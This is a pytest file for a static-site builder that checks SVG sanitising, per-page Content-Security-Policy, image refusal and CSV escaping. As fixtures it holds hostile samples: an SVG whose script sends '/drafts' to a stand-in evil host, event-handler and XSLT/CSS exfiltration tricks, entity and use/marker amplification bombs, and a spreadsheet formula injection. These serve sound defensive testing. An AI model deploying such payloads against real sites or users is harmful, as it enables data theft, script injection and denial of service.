"""Published files carry no active content: SVG images lose their scripts, handlers and outside
references (or are refused), and every page sends a Content-Security-Policy that forbids inline
script — which the pages do not need."""
from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest

from conftest import run_cli

CSP = ("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; "
       "object-src 'none'; base-uri 'self'; form-action 'self'")

HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="10" height="10" onload="alert(document.domain)">
<script>fetch('/drafts').then(r => r.text()).then(t => navigator.sendBeacon('https://evil', t))</script>
<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
<image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
<a href="javascript:alert(1)"><rect width="10" height="10" fill="url(#g)"/></a>
<set attributeName="onmouseover" to="alert(2)"/>
</svg>"""


def _with_image(site, name: str, data: bytes) -> None:
    (site / "content/2024/01" / name).write_bytes(data)
    doc = site / "content/2024/01/first.md"
    doc.write_text(doc.read_text(encoding="utf-8") + f"\n![图]({name})\n", encoding="utf-8")


def _build(site, tmp_path, *options: str):
    """`gazette build OPTIONS` of `site` into tmp_path/o, which succeeds: (what it said, o)."""
    out = tmp_path / "o"
    result = run_cli("--site", str(site), "build", *options, "--out", str(out))
    assert result.code == 0, result.err
    return result, out


def test_an_svg_is_published_without_its_active_content(minimal_site, tmp_path):
    _with_image(minimal_site, "chart.svg", HOSTILE_SVG)
    result, out = _build(minimal_site, tmp_path, "--no-pdf")
    published = (out / "2024/01/chart.svg").read_text(encoding="utf-8")
    for active in ("<script", "onload", "foreignObject", "evil.example", "javascript:",
                   "onmouseover", "<set"):
        assert active not in published
    assert 'fill="url(#g)"' in published and "<rect" in published
    warning = next(line for line in result.lines if "chart.svg" in line)
    assert warning.startswith("warning: content/2024/01/chart.svg:1: image: active content "
                              "removed from the SVG before publishing")
    for said in ("event handler onload=", "<script>", "<foreignObject>",
                 "https://evil.example/pixel.png", "javascript:alert(1)", "<set> changing"):
        assert said in warning


def test_a_clean_svg_is_published_with_all_it_draws_and_no_warning(minimal_site, tmp_path):
    clean = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
             b' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 8 8">'
             b'<defs><linearGradient id="g"/></defs><style>circle { fill: url(#g) }</style>'
             b'<circle r="4" inkscape:label="dot" xml:space="preserve"/>'
             b'<use xlink:href="#g"/></svg>\n')
    _with_image(minimal_site, "dot.svg", clean)
    out = tmp_path / "o"
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out))
    assert result.code == 0 and "dot.svg" not in result.err
    published = (out / "2024/01/dot.svg").read_text(encoding="utf-8")
    for kept in ('viewBox="0 0 8 8"', '<linearGradient id="g"', "fill: url(#g)", '<circle r="4"',
                 'xml:space="preserve"', 'xlink:href="#g"'):
        assert kept in published
    assert "inkscape" not in published  # the drawing program's notes: never drawn


# each published, unchanged, by the cleaner of before (and run or fetched in Chromium)
TRICKS = {
    "xslt.svg": b'<?xml-stylesheet type="text/xsl" href="xslt.svg"?><svg xmlns="http://www.w3.'
                b'org/2000/svg"><rect width="4" height="4"/></svg>',
    "pi-css.svg": b'<?xml-stylesheet type="text/css" href="https://evil.example/pi.css"?><svg '
                  b'xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>',
    "style-tail.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><style><g/>@import url(https://'
                      b'evil.example/tail.css);</style><rect width="4" height="4"/></svg>',
    "import-case.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@IMPORT "https://evil.'
                       b'example/upper.css";</style><rect width="4" height="4"/></svg>',
    "escape.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4" style="'
                  b'fill:u\\72l(https://evil.example/esc.png)"/></svg>',
    "image-set.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4" style='
                     b'"background-image:image-set(\'https://evil.example/set.png\' 1x)"/></svg>',
    "xhtml.svg": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtm'
                 b'l"><h:img src="https://evil.example/img.png"/><h:meta http-equiv="refresh" '
                 b'content="0;url=https://evil.example/"/><rect width="4" height="4"/></svg>',
}


def test_an_svg_is_cleaned_once_not_on_every_build(minimal_site, tmp_path, monkeypatch):
    """Cleaning a 240 KB map takes ~40 ms: a build after an edit cleaned every SVG again."""
    from gazette_build import svgclean

    _with_image(minimal_site, "chart.svg", HOSTILE_SVG)
    out = tmp_path / "o"
    assert run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out)).code == 0
    cleaned = []
    real = svgclean.clean
    monkeypatch.setattr(svgclean, "clean", lambda data: cleaned.append(data) or real(data))
    doc = minimal_site / "content/2024/01/second.md"
    doc.write_text(doc.read_text(encoding="utf-8") + "\n又一段。\n", encoding="utf-8")
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out))
    assert result.code == 0 and cleaned == []
    assert any("chart.svg:1: image: active content removed" in line for line in result.lines)
    assert "<script" not in (out / "2024/01/chart.svg").read_text(encoding="utf-8")


def test_what_drawing_programs_write_is_kept(minimal_site, tmp_path):
    """matplotlib's DOCTYPE naming the SVG DTD, fonts written as CSS escapes (宋体), a picture
    held in the image itself, text after a removed element: refused or lost before."""
    drawn = (b'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG '
             b'1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http:'
             b'//www.w3.org/2000/svg" xmlns:o="urn:office"><style>.st0{fill:#c00;font-family:'
             b'"\\5B8B\\4F53"}</style><image width="1" height="1" href="data:image/png;base64,'
             b'iVBORw0KGgo="/><text class="st0">\xe7\xac\xac\xe4\xb8\x80<o:note/>\xe7\xac\xac'
             b'\xe4\xba\x8c</text></svg>')
    _with_image(minimal_site, "chart.svg", drawn)
    result, out = _build(minimal_site, tmp_path, "--no-pdf")
    published = (out / "2024/01/chart.svg").read_text(encoding="utf-8")
    assert '"\\5B8B\\4F53"' in published and "fill:#c00" in published
    assert 'href="data:image/png;base64,iVBORw0KGgo="' in published
    assert "<text class=\"st0\">第一第二</text>" in published


def test_what_the_reading_drops_or_another_namespace_holds_is_not_published(minimal_site,
                                                                           tmp_path):
    for name, data in TRICKS.items():
        _with_image(minimal_site, name, data)
    result, out = _build(minimal_site, tmp_path, "--no-pdf")
    said = {name: next(line for line in result.lines if f"/{name}:1: image:" in line)
            for name in TRICKS}
    assert "the processing instruction <?xml-stylesheet?>" in said["xslt.svg"]
    assert "the processing instruction <?xml-stylesheet?>" in said["pi-css.svg"]
    assert "a <style> holding elements" in said["style-tail.svg"]
    assert "an @import in a <style>" in said["import-case.svg"]
    assert "the external reference in style= on <rect>" in said["escape.svg"]
    assert "the external reference in style= on <rect>" in said["image-set.svg"]
    assert "the element <img> of another namespace than SVG's" in said["xhtml.svg"]
    for name in TRICKS:
        published = (out / "2024/01" / name).read_bytes()
        assert b"evil.example" not in published and b"<?xml-stylesheet" not in published
        assert b"<rect" in published


def test_hostile_svgs_opened_directly_run_nothing_and_load_nothing(minimal_site, tmp_path,
                                                                   chromium):
    from browser import serve

    for name, data in TRICKS.items():
        _with_image(minimal_site, name, data)
    _with_image(minimal_site, "hostile.svg", HOSTILE_SVG)
    out = tmp_path / "o"
    assert run_cli("--site", str(minimal_site), "build", "--no-pdf", "--no-search", "--out",
                   str(out)).code == 0
    outside, dialogs = [], []
    page = chromium.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route("**/*", lambda route: (outside.append(route.request.url), route.abort())
               if "evil.example" in route.request.url else route.continue_())
    try:
        with serve(out) as url:
            for name in [*TRICKS, "hostile.svg"]:
                page.goto(f"{url}2024/01/{name}")
                page.wait_for_timeout(300)  # a refresh, an XSLT or an onload would act by now
                assert page.url == f"{url}2024/01/{name}", name
    finally:
        page.close()
    assert outside == [] and dialogs == []


def test_an_svg_nested_too_deep_or_not_utf8_is_refused_without_a_traceback(minimal_site,
                                                                          tmp_path):
    _with_image(minimal_site, "deep.svg", b'<svg xmlns="http://www.w3.org/2000/svg">'
                + b"<g>" * 1000 + b"</g>" * 1000 + b"</svg>")
    _with_image(minimal_site, "wide.svg", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg '
                '[<!ENTITY x "hello">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text>'
                '</svg>'.encode("utf-16"))
    out = tmp_path / "o"
    for command in (["check"], ["build", "--no-pdf", "--out", str(out)]):
        result = run_cli("--site", str(minimal_site), *command)
        assert result.code == 0 and "Traceback" not in result.err, result.err
    assert ("warning: content/2024/01/deep.svg:1: image: the SVG is refused: its elements nest "
            "more than 200 deep; it is not published") in result.lines
    assert ("warning: content/2024/01/wide.svg:1: image: the SVG is refused: it is not UTF-8 "
            "text; it is not published") in result.lines
    assert not (out / "2024/01/deep.svg").exists() and not (out / "2024/01/wide.svg").exists()


def test_an_svg_of_uses_of_uses_is_refused_for_the_web_and_for_print(minimal_site, tmp_path):
    """3 KB drawing 10^8 rectangles: accepted before, it held the print layout for minutes."""
    levels = "".join(f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>"
                     for level in range(1, 9))
    bomb = (f'<svg xmlns="http://www.w3.org/2000/svg"><defs><rect id="a0" width="1" '
            f'height="1"/>{levels}</defs><use href="#a8"/></svg>').encode()
    assert len(bomb) < 3_000
    _with_image(minimal_site, "lol.svg", bomb)
    result, out = _build(minimal_site, tmp_path, "--no-search")
    assert ("warning: content/2024/01/lol.svg:1: image: the SVG is refused: it draws more than "
            "50,000 elements and characters of text (each one that a <use>, a mask, clip, "
            "pattern or marker draws again counted each time); it is not published"
            ) in result.lines
    assert not (out / "2024/01/lol.svg").exists()
    assert list(out.rglob("*.pdf")) and "WeasyPrint" not in result.err


def test_an_svg_or_a_page_saved_as_a_raster_image_is_not_shown_published_or_printed(
        minimal_site, tmp_path):
    """An SVG named a.png was published as is, scripts and all, with no word, and WeasyPrint,
    which could not read it as a PNG, drew it as an SVG that svgclean never saw."""
    _with_image(minimal_site, "a.png", HOSTILE_SVG)
    _with_image(minimal_site, "b.jpg", b"<html><script>alert(1)</script></html>")
    _with_image(minimal_site, "c.webp", b"RIFF\x00\x00\x00\x00WAVEfmt ")
    # a raster of another type than its name says is shown, as browsers show it
    from PIL import Image

    png = io.BytesIO()
    Image.new("RGB", (8, 4), "red").save(png, "PNG")
    _with_image(minimal_site, "d.jpg", png.getvalue())
    result, out = _build(minimal_site, tmp_path, "--no-search")
    for name in ("a.png", "b.jpg", "c.webp"):
        assert any(line.startswith("warning: content/2024/01/first.md:") and line.endswith(
            f"image {name}: its bytes are not a PNG, JPEG, GIF or WebP image (an SVG, a page or "
            f"another type saved as {name[1:]}?); it is not shown") for line in result.lines), \
            result.err
        assert not (out / "2024/01" / name).exists()
    assert (out / "2024/01/d.jpg").exists() and "d.jpg" not in result.err
    assert list(out.rglob("*.pdf")) and "WeasyPrint" not in result.err
    # the printed edition's fetcher refuses it too, whatever asks for it
    from gazette_build.printed.fetcher import SiteFetcher

    fetcher = SiteFetcher(minimal_site)
    with pytest.raises(ValueError, match="is refused: not a raster image"):
        fetcher.fetch((minimal_site / "content/2024/01/a.png").as_uri())
    assert fetcher.unpublished


@pytest.mark.parametrize("how", ["both links", "spaced link", "ids twice", "markers",
                                 "masks", "marker through a use"])
def test_every_way_to_multiply_the_drawing_is_counted(how):
    """Read as a renderer reads them: `xlink:href` beside `href`, a link with spaces, an id
    given twice (WeasyPrint takes the first), markers inside markers (1.2 KB: 125,000
    circles). Each got past the bound, and each held the print layout for 12-25 s."""
    from gazette_build import svgclean

    if how in ("markers", "marker through a use"):
        path = "M" + " L".join(f"{i} {i}" for i in range(50))
        drawn = ('<path d="{path}" marker-mid="url(#m{next})"/>' if how == "markers" else
                 '<use href="#p{next}"/>')
        levels = "".join(f'<marker id="m{i}">{drawn.format(path=path, next=i + 1)}</marker>'
                         f'<path id="p{i + 1}" d="{path}" marker-mid="url(#m{i + 1})"/>'
                         for i in range(1, 4))
        svg = (f'<svg xmlns="http://www.w3.org/2000/svg">{levels}<marker id="m4"><circle '
               f'r="1"/></marker><path d="{path}" marker-mid="url(#m1)"/></svg>')
    elif how == "masks":  # 2.4 KB: WeasyPrint past 1 GB in 26 s
        levels = "".join(f'<mask id="m{i}">' + f'<rect width="9" height="9" mask="url(#m{i + 1})"/>'
                         * 10 + "</mask>" for i in range(5))
        svg = (f'<svg xmlns="http://www.w3.org/2000/svg">{levels}<mask id="m5"><rect '
               'width="9" height="9"/></mask><rect width="9" height="9" mask="url(#m0)"/></svg>')
    else:
        use = {"both links": '<use href="#e" xlink:href="#L{0}"/>',
               "spaced link": '<use xlink:href=" #L{0}"/>',
               "ids twice": '<use xlink:href="#L{0}"/>'}[how]
        levels = "".join(f'<g id="L{i}">' + use.format(i - 1) * 10 + "</g>" for i in range(1, 6))
        empty = "".join(f'<g id="L{i}"/>' for i in range(1, 6)) if how == "ids twice" else ""
        svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/'
               f'xlink"><defs><rect id="L0" width="1" height="1"/>{levels}{empty}</defs>'
               '<use xlink:href="#L5"/></svg>')
    published, why = svgclean.clean(svg.encode())
    assert published is None
    assert why[0].startswith("it draws more than 50,000 elements")


def test_the_characters_of_its_text_are_counted_as_drawn():
    """One `<text>` of 200,000 characters (600 KB) held the print layout for 12 s and 600 MB:
    each character is laid out on its own. A map's thousands of labels are not refused."""
    from gazette_build import svgclean

    def svg(body: str) -> bytes:
        return f'<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>'.encode()

    for body in ['<text x="0" y="9">' + "字" * 60_000 + "</text>",
                 '<text><tspan>' + "字" * 30_000 + "</tspan>" + "字" * 30_000 + "</text>",
                 '<defs><text id="t">' + "字" * 1_000 + '</text></defs>'
                 + '<use href="#t"/>' * 60]:
        published, why = svgclean.clean(svg(body))
        assert published is None and why[0].startswith("it draws more than 50,000 elements "
                                                        "and characters of text"), body[:40]
    labels = "".join(f'<text x="{i % 100}" y="{i // 100}">晋中市榆次区第{i}村</text>\n  '
                     for i in range(3_000))
    published, why = svgclean.clean(svg(labels + "\n" * 60_000))
    assert published is not None and why == []


def test_what_its_entities_add_is_bounded():
    """A million references to an entity of 200 characters: a 3 MB file published as 200 MB
    (and 1 GB to read it). Illustrator's few references to its namespaces are kept."""
    from gazette_build import svgclean

    def svg(references: str) -> bytes:
        return (f'<!DOCTYPE svg [<!ENTITY a "{"x" * 200}">]><svg xmlns="http://www.w3.org/2000/'
                f'svg"><desc>{references}</desc><rect width="1" height="1"/></svg>').encode()

    published, why = svgclean.clean(svg("&a;" * 600))
    assert published is None and why == ["the references to its entities add more than 100,000 "
                                         "characters when read; it is not published"]
    published, why = svgclean.clean(svg("&a;" * 400))
    assert published is not None and published.count(b"x" * 200) == 400 and why == []


def test_image_candidates_and_a_base_are_not_ways_out():
    """`image-set("#a" 2x, "http://…" 1x)` passed: only its first candidate was read, and
    Chromium fetched the second; `xml:base` moved where WeasyPrint looked for `#frag`."""
    from gazette_build import svgclean

    for svg in ['<svg xmlns="http://www.w3.org/2000/svg"><style>svg{background-image:image-set('
                '"#a" 2x,"http://evil.test/c.png" 1x)}</style><rect width="1" height="1"/></svg>',
                '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1" style="cursor:'
                '-webkit-image-set(\'#a\' 2x, \'http://evil.test/c.png\' 1x), auto"/></svg>',
                '<svg xmlns="http://www.w3.org/2000/svg"><image xml:base="http://evil.test/d/" '
                'href="#frag"/></svg>']:
        published, removed = svgclean.clean(svg.encode())
        assert b"evil.test" not in published and removed, svg


def test_what_exporters_write_is_not_refused_nor_stripped():
    """Illustrator's entities naming its namespaces, a D3 sheet giving paths an arrow marker,
    an @import beside the classes, a font held as data, a JPEG held as data:image/jpg, a layer
    named `Image (2)`: refused, stripped of all their classes, or warned about before."""
    from gazette_build import svgclean

    illustrator = ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/'
                   'SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_extend "http://ns.adobe.com/Extensibility'
                   '/1.0/">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:x="&ns_extend;"><style>'
                   '@import url("https://fonts.example/css");.st0{fill:#E30613}@font-face{font-'
                   'family:f;src:url(data:font/woff2;base64,d09GMgAB)}</style><g data-name="Image '
                   '(2)"><rect class="st0" width="4" height="4"/></g><image href="data:image/jpg;'
                   'base64,/9j/4AAQ"/><marker id="arrow"><path d="M0 0L9 5L0 9z"/></marker>'
                   '<style>.link{marker-end:url(#arrow)}</style><path class="link" d="M0 0L9 9"/>'
                   '</svg>')
    published, removed = svgclean.clean(illustrator.encode())
    assert published is not None
    assert removed == ["an @import in a <style>"]
    for kept in (b".st0{fill:#E30613}", b"data:font/woff2", b"data:image/jpg", b'data-name=',
                 b"marker-end:url(#arrow)"):
        assert kept in published


def test_an_image_of_too_many_pixels_is_named_and_left_out_of_the_pdfs(minimal_site, tmp_path):
    """A small PNG of 50 million pixels: the print layout decoded it whole (1.5 GB at 169
    million), and Pillow's warning came out raw, naming no file."""
    import io

    from PIL import Image
    from pypdf import PdfReader

    packed = io.BytesIO()
    Image.new("1", (10_000, 5_000)).save(packed, "PNG")
    assert len(packed.getvalue()) < 100_000
    _with_image(minimal_site, "huge.png", packed.getvalue())
    result, out = _build(minimal_site, tmp_path, "--no-search")
    assert ("warning: content/2024/01/huge.png:1: image: the image has 10,000 × 5,000 pixels, "
            "more than 40 million: the print layout would decode it whole, so it is left out "
            "of the PDFs; make it smaller") in result.lines
    assert "WeasyPrint" not in result.err and "DecompressionBomb" not in result.err
    assert (out / "2024/01/huge.png").exists()  # the web edition shows it
    issue_pdf = next(out.glob("2024/01/*.pdf"))
    assert not any(page.images for page in PdfReader(issue_pdf).pages)


def test_an_image_that_links_to_a_file_of_another_type_is_not_published(minimal_site, tmp_path):
    """`x.svg` → a page: it was published under the page's name, uncleaned, in place of the
    page a document has there."""
    folder = minimal_site / "content/2024/01/first"
    folder.mkdir()
    (folder / "index.html").write_text("<html><body><script>alert(4)</script>", encoding="utf-8")
    (minimal_site / "content/2024/01/c.svg").symlink_to("first/index.html")
    doc = minimal_site / "content/2024/01/second.md"
    doc.write_text(doc.read_text(encoding="utf-8") + "\n![图](c.svg)\n", encoding="utf-8")
    out = tmp_path / "o"
    for command in (["check"], ["build", "--no-pdf", "--out", str(out)]):
        result = run_cli("--site", str(minimal_site), *command)
        assert "image c.svg is a link to index.html, which is not a .svg file; it is not shown" \
            in result.err, result.err
    assert "<script>" not in (out / "2024/01/first/index.html").read_text(encoding="utf-8")


def test_an_svg_with_entities_is_refused(minimal_site, tmp_path):
    bomb = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>')
    _with_image(minimal_site, "bomb.svg", bomb)
    out = tmp_path / "o"
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out))
    assert result.code == 0
    assert ("warning: content/2024/01/bomb.svg:1: image: the SVG is refused: it declares "
            "entities that name other entities or files, which can expand without bound or "
            "read other files; it is not published") in result.lines
    assert not (out / "2024/01/bomb.svg").exists()


def test_an_image_above_the_limit_of_site_yaml_is_a_warning(minimal_site, tmp_path):
    config = minimal_site / "site.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "image_limit_kb: 10\n",
                      encoding="utf-8")
    _with_image(minimal_site, "big.png", b"\x89PNG\r\n\x1a\n" + bytes(20 * 1024))
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out",
                     str(tmp_path / "o"))
    assert result.code == 0
    assert ("warning: content/2024/01/big.png:1: image: the image is 20 KB, above the 10 KB of "
            "site.yaml's image_limit_kb: every reader downloads it and each PDF of its issue "
            "embeds it; make it smaller") in result.lines


class _Resources(HTMLParser):
    """What a page loads and runs: the CSP meta, scripts, inline styles, loaded URLs."""

    def __init__(self):
        super().__init__()
        self.csp, self.inline_scripts, self.inline_styles, self.loads = [], 0, 0, []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy":
            self.csp.append(attrs["content"])
        if tag == "script" and "src" not in attrs and attrs.get("type") != "application/ld+json":
            self.inline_scripts += 1
        if tag == "style" or "style" in attrs or any(a.startswith("on") for a in attrs):
            self.inline_styles += 1
        if tag in ("script", "img", "iframe", "embed", "object") and attrs.get("src"):
            self.loads.append(attrs["src"])
        if tag == "link" and attrs.get("rel") in ("stylesheet", "icon", "preload"):
            self.loads.append(attrs["href"])


def test_every_page_forbids_inline_script_and_needs_nothing_else(web_edition):
    pages = sorted(web_edition.rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        found = _Resources()
        found.feed(page.read_text(encoding="utf-8"))
        # the search page alone may compile Pagefind's WebAssembly (still no inline script)
        expected = CSP.replace("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'") \
            if page.parent.name == "search" else CSP
        assert found.csp == [expected], page
        assert found.inline_scripts == 0 and found.inline_styles == 0, page
        for url in found.loads:  # all from the gazette's own origin
            assert not re.match(r"^([a-z]+:|//)", url), (page, url)


def test_a_table_cell_a_spreadsheet_would_run_is_written_as_text_in_the_csv(minimal_site,
                                                                           tmp_path):
    doc = minimal_site / "content/2024/01/first.md"
    doc.write_text(doc.read_text(encoding="utf-8") + (
        "\n| 项目 | 数量 | 备注 |\n| --- | --- | --- |\n"
        '| =HYPERLINK("https://evil.example","点击") | -5 | @SUM(A1) |\n'
        "| +86 0354 1234567 | +3.2% | - |\n"
        "| -2+3 | -1,234.5 | =1+1 |\n"), encoding="utf-8")
    result, out = _build(minimal_site, tmp_path, "--no-pdf")
    data = (out / "2024/01/first/first-table-1.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    assert rows == [["项目", "数量", "备注"],
                    ['\'=HYPERLINK("https://evil.example","点击")', "-5", "'@SUM(A1)"],
                    ["'+86 0354 1234567", "+3.2%", "-"],
                    ["'-2+3", "-1,234.5", "'=1+1"]]
    # the page shows the cells as written
    page = (out / "2024/01/first/index.html").read_text(encoding="utf-8")
    cells = [re.sub(r"<[^>]+>", "", cell) for cell in re.findall(r"<td[^>]*>(.*?)</td>", page)]
    assert ["@SUM(A1)", "-2+3", "=1+1"] == [c for c in cells if c in ("=1+1", "@SUM(A1)", "-2+3")]
